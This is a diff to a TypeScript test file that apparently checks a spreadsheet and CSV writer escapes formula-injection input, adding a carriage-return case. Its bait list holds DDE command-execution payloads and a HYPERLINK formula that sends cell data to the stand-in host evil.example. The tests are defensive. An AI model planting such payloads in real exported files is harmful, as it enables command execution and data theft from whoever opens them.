@@ -9,7 +9,7 @@ import { openSheet, writeCsv, writeSheet } from './index.ts'
 const folder = mkdtempSync(join(tmpdir(), 'xinheng-formulas-'))
 after(() => rmSync(folder, { recursive: true }))
 
-const BAIT = ['=cmd|\'/C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd', '@SUM(1+1)*cmd', '\t=1+1', '=HYPERLINK("https://evil.example?x="&A1,"x")', '=1+1', '  =1+1']
+const BAIT = ['=cmd|\'/C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd', '@SUM(1+1)*cmd', '\t=1+1', '=HYPERLINK("https://evil.example?x="&A1,"x")', '=1+1', '  =1+1', '\r=1+1']
 
 test('a text that a spreadsheet would run is a text in every workbook that is written, and the same when it is read again', async () => {
   const path = join(folder, 'out.xlsx')
@@ -22,5 +22,5 @@ test('a text that a spreadsheet would run is a text in every workbook that is wr
 
 test('no cell of a CSV file begins with what a spreadsheet would run', async () => {
   const text = (await buffer(writeCsv([{ heading: '名称' }], BAIT.map((one) => [one])))).toString().replace('\ufeff', '')
-  for (const line of text.split('\r\n').slice(1).filter((one) => one !== '')) assert.match(line.replace(/^"/, ''), /^(?![=+\-@\t])/, line)
+  for (const line of text.split('\r\n').slice(1).filter((one) => one !== '')) assert.match(line.replace(/^"/, ''), /^(?![=+\-@\t\r\n])/, line)
 })
